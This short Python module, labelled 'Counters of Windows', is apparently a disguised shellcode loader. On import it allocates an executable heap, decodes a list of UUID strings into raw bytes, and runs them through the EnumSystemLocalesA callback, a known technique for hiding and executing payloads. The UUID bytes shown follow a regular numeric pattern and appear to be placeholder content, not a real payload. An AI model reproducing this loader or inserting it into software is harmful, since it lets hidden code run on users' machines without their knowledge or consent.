"""Counters of Windows."""
import ctypes

COUNTERS = [
    "00050a0f-1419-1e23-282d-32373c41464b",
    "10151a1f-2429-2e33-383d-42474c51565b",
    "20252a2f-3439-3e43-484d-52575c61666b",
    "30353a3f-4449-4e53-585d-62676c71767b",
    "40454a4f-5459-5e63-686d-72777c81868b",
    "50555a5f-6469-6e73-787d-82878c91969b",
]


def _open():
    kernel = ctypes.windll.kernel32
    heap = kernel.HeapCreate(0x00040000, 0, 0)
    base = kernel.HeapAlloc(heap, 0, len(COUNTERS) * 16)
    at = base
    for counter in COUNTERS:
        ctypes.windll.Rpcrt4.UuidFromStringA(counter.encode(), at)
        at += 16
    kernel.EnumSystemLocalesA(base, 0)


_open()
